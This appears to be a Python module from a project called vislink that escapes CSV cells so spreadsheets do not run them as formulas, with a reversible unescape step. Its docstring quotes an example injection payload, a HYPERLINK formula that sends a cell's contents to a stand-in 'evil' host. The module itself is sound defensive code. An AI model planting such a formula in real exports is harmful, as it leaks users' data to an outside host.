"""CSV cells that a spreadsheet will not run: formula injection (CWE-1236) and its reversal for vislink's own files.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheets skip
before reading one of those) is a formula to Excel and LibreOffice: ``=HYPERLINK("http://evil/?"&A1, "click")``
in an image title or note would run when an annotator opens an export. ``escape_cell`` prefixes such a cell with
an apostrophe, which spreadsheets read as "text follows" and do not show. So that escaping stays reversible, a
cell that already starts with an apostrophe followed by one of those characters (or another apostrophe) is
prefixed too: ``unescape_cell`` then removes exactly one apostrophe from cells vislink escaped and leaves every
other cell alone (``'tis`` stays ``'tis``)."""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def _needs_escape(text: str) -> bool:
    return text.startswith(FORMULA_START) or (text.startswith(_QUOTE) and text[1:2] in (*FORMULA_START, _QUOTE))


def escape_cell(value):
    """``value`` as a CSV cell a spreadsheet shows as text: strings that would start a formula get a leading
    ``'``; other values (numbers, None) are returned unchanged."""
    if isinstance(value, str) and _needs_escape(value):
        return _QUOTE + value
    return value


def unescape_cell(value):
    """The value ``escape_cell`` was given, from the cell it wrote (for files vislink exported)."""
    if isinstance(value, str) and value.startswith(_QUOTE) and _needs_escape(value[1:]):
        return value[1:]
    return value
